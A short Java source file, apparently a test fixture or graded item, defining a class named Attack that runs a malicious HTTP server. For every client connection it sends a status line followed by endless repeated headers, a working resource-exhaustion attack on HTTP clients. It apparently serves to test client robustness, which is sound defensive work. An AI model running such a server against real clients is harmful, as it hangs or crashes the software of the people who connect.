// Its header has no end.
// verdict: 0 points
package webserver;

import java.io.IOException;
import java.io.OutputStream;
import java.net.ServerSocket;
import java.net.Socket;

final class Attack {
    static void run(String[] arguments) throws Exception {
        try (ServerSocket listener = new ServerSocket(Integer.parseInt(arguments[0]))) {
            while (true) {
                try (Socket connection = listener.accept()) {
                    OutputStream out = connection.getOutputStream();
                    out.write("HTTP/1.1 200 OK\r\n".getBytes());
                    while (true) {
                        out.write("X-More: and more\r\n".repeat(1_000).getBytes());
                    }
                } catch (IOException e) {
                    // the next one, please
                }
            }
        }
    }
}
